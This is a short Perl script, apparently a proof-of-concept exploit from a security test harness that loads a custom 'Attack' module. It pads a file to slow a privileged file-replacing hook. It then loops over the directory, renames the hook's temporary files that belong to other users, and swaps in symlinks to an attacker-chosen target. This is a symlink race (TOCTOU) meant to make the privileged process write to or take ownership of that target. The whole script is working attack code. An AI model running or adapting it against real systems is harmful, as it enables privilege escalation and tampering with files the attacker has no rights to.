# Swaps the temporary file of a hook that replaces a file of the account for a link, before it gets the owner of the account's file.
use strict;
use warnings;
use Attack;

my ($path, $target) = @ARGV;
my ($directory, $name) = $path =~ m{^(.*)/([^/]+)$};
write_file($path, "language = fr\n" . "\0" x 20_000_000);
ready();
tried();
until (over()) {
    opendir my $entries, $directory or next;
    for my $temporary (grep { /^\.\Q$name\E\./ } readdir $entries) {
        next if -l "$directory/$temporary" || ((lstat _)[4] // $<) == $<;
        rename "$directory/$temporary", "$directory/root-$temporary" and symlink $target, "$directory/$temporary";
    }
}
